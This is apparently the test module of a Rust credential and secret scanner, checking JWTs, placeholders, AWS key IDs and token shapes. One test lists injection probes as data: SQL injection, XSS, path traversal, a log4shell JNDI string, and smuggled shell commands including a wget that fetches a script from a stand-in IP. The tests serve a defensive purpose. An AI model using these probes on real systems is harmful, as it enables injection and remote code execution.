        let header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(r#"{"alg":"HS256"}"#);
        let claims = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(r#"{"sub":"1","iss":"https://auth.example","aud":["api"],"iat":1764237600,"exp":1764241200}"#);
        let token = format!("{header}.{claims}.c2ln");
        let jwt = jwt_claims(token.as_bytes()).unwrap();
        assert_eq!(jwt.alg.as_deref(), Some("HS256"));
        assert_eq!(jwt.iss.as_deref(), Some("https://auth.example"));
        assert_eq!(jwt.exp, Some(1764241200));
        let details = Validator::Jwt.check(token.as_bytes()).unwrap();
        assert_eq!(details.expires_at.as_deref(), Some("2025-11-27T11:00:00Z"));
    }

    #[test]
    fn jwt_structure() {
        assert!(is_jwt(b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"));
        assert!(!is_jwt(b"eyJhbGciOiJIUzI1NiJ9.bm90anNvbg.c2ln"));
        assert!(!is_jwt(b"eyJub3Rqc29u"));
    }

    #[test]
    fn placeholders() {
        for v in [
            "YOUR_API_KEY",
            "<api_key>",
            "{{token}}",
            "${KEY}",
            "xxxxxxxxxxxx",
            "null",
            "changeme",
            "[FILTERED]",
            "REDACTED",
            "__HIDDEN__",
            "***",
        ] {
            assert!(is_placeholder(v.as_bytes()), "{v}");
        }
        assert!(!is_placeholder(b"d41d8cd98f00b204e9800998ecf8427e"));
    }

    #[test]
    fn injection_probes_are_not_passwords() {
        for probe in [
            "' OR ''='",
            "\"||NETSPARKER||",
            "x' UNION SELECT 1,2--",
            "' or 1=1 --",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://x/a}",
            "x';ls #",
            ";wget http://203.0.113.7/m.sh",
            "1 | cat /etc/hosts",
            "a&&id",
            "q\nuname -a",
        ] {
            assert!(!is_password_like(probe.as_bytes()), "{probe}");
        }
        for password in [
            "Summer2024!",
            "O'Brien-1987",
            "a|b|c",
            "Blue Harbor Lantern 77",
            "abc;cdef",
            "x|identity;lsx",
            "Tom&Jerry&Co",
            "rock&&roll99",
        ] {
            assert!(is_password_like(password.as_bytes()), "{password}");
        }
    }

    #[test]
    fn numbers_in_any_notation_are_not_credentials() {
        for number in [
            "-79874087309410014E17",
            "79874087309410014e+17",
            "123456789012345678",
            "-123456789012345678",
            "3.14159265358979323846",
            "1.5e-300000000000000",
        ] {
            assert!(is_number(number.as_bytes()), "{number}");
            assert!(!is_credential_like(number.as_bytes()), "{number}");
        }
        for not_number in [
            "E17",
            "-",
            "1e",
            "1.2.3",
            "12ab34",
            "d4d3fd81b6ee7b3bb1c863e2601a7462",
        ] {
            assert!(!is_number(not_number.as_bytes()), "{not_number}");
        }
    }

    #[test]
    fn slugs_ids_and_trackers_are_not_credentials() {
        for slug in [
            "blue-widget-2024-xl",
            "INV-2024-000123456",
            "summer_sale_2026_banner",
            "awssession_id1025847766r8505",
            "order-7f-2026-11-27",
            "Product-Name-Deluxe-Edition",
        ] {
            assert!(is_slug(slug.as_bytes()), "{slug}");
            assert!(!is_credential_like(slug.as_bytes()), "{slug}");
        }
        for random in [
            "d4d3fd81b6ee7b3bb1c863e2601a7462",
            "rmZDbDqtELn9ovc0Hs98YGpB7gt180MooFbK1BG3",
            "j_P1bOisNCv5cB_TBj0RbX7yuofD2O_dlhpCMeHW598",
            "qwhdjskeoapxmznvbrtyuiolkjhgfd",
            "xk3mp9qlr2st8vw1-yz4ab6cd",
        ] {
            assert!(!is_slug(random.as_bytes()), "{random}");
        }
    }

    #[test]
    fn a_token_with_a_wrong_checksum_stays_wrong_with_text_after_it() {
        let bad = "ghp_DZ89PWX88NeROgJAyUwBqACRVBU6w60yS56A";
        assert!(fails_its_checksum(bad.as_bytes()));
        for value in [
            format!("{bad}:main"),
            format!("{bad}/x"),
            format!("{bad}@host"),
        ] {
            assert!(!is_credential_like(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn credential_likeness() {
        for v in [
            "d41d8cd98f00b204e9800998ecf8427e",
            "Xk3mP9qLr2sT8vW1yZ4aB6cD",
            "QmFzZTY0IGVuY29kZWQgc2VjcmV0IQ==",
        ] {
            assert!(is_credential_like(v.as_bytes()), "{v}");
        }
        for v in [
            "checkout.button.label",
            "checkoutButtonLabelText",
            "1700000000000",
            "550e8400-e29b-41d4-a716-446655440000",
            "short1",
            "pk_live_51Habcdefghijklmnopqrstuv",
            "hello world this is text",
            "aaaaaaaaaaaaaaaaaaaa",
        ] {
            assert!(!is_credential_like(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn password_likeness() {
        assert!(is_password_like(b"Summer2024!"));
        assert!(!is_password_like(b"/home/user"));
        assert!(!is_password_like(b"abc"));
        assert!(!is_password_like(b"changeme"));
        assert!(is_password_like(b"Example#8583"));
        assert!(!is_password_like(b"********"));
        assert!(!is_password_like(b"[FILTERED]"));
        // A printf marker left unfilled is a template; `%s` starting a word is part of a password.
        assert!(!is_password_like(b"'%s'"));
        assert!(!is_password_like(b"user:%s"));
        assert!(is_password_like(b"Summer%summer9230"));
    }

    #[test]
    fn aws_key_ids_give_their_type_and_account() {
        // Pairs published by Aidan Steele ("AWS Access Key ID formats", 2020), Tal Be'ery ("A
        // short note on AWS KEY ID", 2023) and the psanford/aws-account-id-from-key README.
        for (id, account) in [
            ("ASIAY34FZKBOKMUTVV7A", "609629065308"),
            ("ASIAVJ2E6QGR2WZILJFM", "364679954851"),
            ("AKIASP2TPHJSQH3FJXYZ", "171436882533"),
        ] {
            assert_eq!(
                aws_account_id(id.as_bytes()).as_deref(),
                Some(account),
                "{id}"
            );
        }
        // Older ids (fifth character A–P) do not encode the account.
        assert_eq!(aws_account_id(b"AKIAIOSFODNN7EXAMPLE"), None);
        assert_eq!(aws_account_id(b"AKIASHORT"), None);
        assert_eq!(
            aws_key_type(b"AKIASP2TPHJSQH3FJXYZ"),
            Some("long_term_access_key")
        );
        assert_eq!(
            aws_key_type(b"ASIAY34FZKBOKMUTVV7A"),
            Some("temporary_access_key")
        );
        assert_eq!(aws_key_type(b"AROAY34FZKBOKMUTVV7A"), Some("role"));
        assert_eq!(aws_key_type(b"XXXXY34FZKBOKMUTVV7A"), None);
        let details = Validator::AwsKeyId.check(b"ASIAY34FZKBOKMUTVV7A").unwrap();
        assert_eq!(details.aws_account_id.as_deref(), Some("609629065308"));
        assert_eq!(details.aws_key_type, Some("temporary_access_key"));
        for documented in ["AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE"] {
            assert!(Validator::AwsKeyId.check(documented.as_bytes()).is_none());
        }
    }

    #[test]
    fn basic_credentials() {
        // base64("deploy:Summer2024!"), with and without padding.
        assert!(basic_credentials_valid(b"ZGVwbG95OlN1bW1lcjIwMjQh"));
        assert!(basic_credentials_valid(b"YWRtaW46aHVudGVyMg=="));
        assert!(basic_credentials_valid(b"YWRtaW46aHVudGVyMg"));
        // "username:" (no password), "nocolonhere", "realm", binary.
        assert!(!basic_credentials_valid(b"dXNlcm5hbWU6"));
        assert!(!basic_credentials_valid(b"bm9jb2xvbmhlcmU="));
        assert!(!basic_credentials_valid(b"realm"));
        assert!(!basic_credentials_valid(b"AAECAwQFBgc6CAk="));
    }

    #[test]
    fn issuers_modes_and_notes() {
        assert_eq!(pypi_issuer(b"pypi-AgEIcHlwaS5vcmcCJGFi"), Some("pypi.org"));
        assert_eq!(
            pypi_issuer(b"pypi-AgENdGVzdC5weXBpLm9yZwIkYWI"),
            Some("test.pypi.org")
        );
        assert_eq!(pypi_issuer(b"pypi-AgEFZm9vYmFy"), None);
        assert_eq!(key_mode(b"sk_live_abc"), Some("live"));
        assert_eq!(key_mode(b"rk_test_abc"), Some("test"));
        assert_eq!(key_mode(b"access_token$sandbox$abc$def"), Some("test"));
        assert_eq!(key_mode(b"access_token$production$abc$def"), Some("live"));
        assert!(Validator::Mode
            .check(b"sk_test_4eC39HqLyjWDarjtT1zdp7dc")
            .is_none());
        let note = Validator::OpenAi
            .check(b"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")
            .and_then(|d| d.note);
        assert!(note.is_some_and(|n| n.contains("T3BlbkFJ")));
        // sntrys_ + base64({"iat":1,"url":"https://sentry.example.com","org":"acme"}) + _secret
        let payload = base64::engine::general_purpose::STANDARD
            .encode(br#"{"iat":1,"url":"https://sentry.example.com","org":"acme"}"#);
        let token = format!("sntrys_{payload}_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmU");
        assert_eq!(
            sentry_org_token_issuer(token.as_bytes()),
            Some(Some("sentry.example.com".to_string()))
        );
        assert_eq!(sentry_org_token_issuer(b"sntrys_eyJiYWQ_c2VjcmV0"), None);
    }

    #[test]
    fn opaque_tokens_leave_known_shapes_to_their_rules() {
        let opaque = b"9f8e7d6c5b4a39281706f5e4d3c2b1a0Zx7Qw2";
        assert!(Validator::OpaqueToken.check(opaque).is_some());
        for known in [
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNzY0MjM3NjAwfQ.c2lnbmF0dXJl",
            "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",
            "sk_live_gwLdKgs7kvJWJgQKPiIZ8CQg",
            "glpat-EDJYaQhQX-W6BsZ50gGX",
        ] {
            assert!(has_provider_shape(known.as_bytes()), "{known}");
            assert!(
                Validator::OpaqueToken.check(known.as_bytes()).is_none(),
                "{known}"
            );
        }
        assert!(!has_provider_shape(opaque));
        assert!(provider_shapes().is_ok());
        assert!(Validator::OpaqueToken.check(b"${ACCESS_TOKEN}").is_none());
    }

    #[test]
    fn example_tokens() {
        for v in [
            "AKIAIOSFODNN7EXAMPLE",
            "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
            "glpat-xxxxxxxxxxxxxxxxxxxx",
            "hvs.<your-token>",
            "AAAAAAAAAAAA",
        ] {
            assert!(is_example_token(v.as_bytes()), "{v}");
        }
        // Random tokens may spell short words; they are still real.
        for v in [
            "glpat-NoNeNuLLyOuR1234abcd",
            "sk_live_51HtestNone0yourNull99",
        ] {
            assert!(!is_example_token(v.as_bytes()), "{v}");
            assert!(is_placeholder(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn session_ids() {
        assert!(is_session_id_like(b"8F2B6C0A1D3E5F7A9B0C2D4E6F8A0B1C"));
        assert!(is_session_id_like(b"q3k9v1m7t2h8c0n4b6x5r1p0ld"));
        assert!(!is_session_id_like(b"cs_live_a1B2c3D4e5F6g7H8i9J0"));
        assert!(!is_session_id_like(b"AC0123456789abcdef0123456789abcdef"));
        assert!(!is_session_id_like(
            b"S-1-5-21-3623811015-3361044348-30300820-1013"
        ));
        assert!(!is_session_id_like(b"deleted"));
    }

    #[test]
    fn entropy() {
        assert_eq!(shannon_entropy(b"aaaa"), 0.0);
        assert!((shannon_entropy(b"ab") - 1.0).abs() < 1e-9);
    }
}
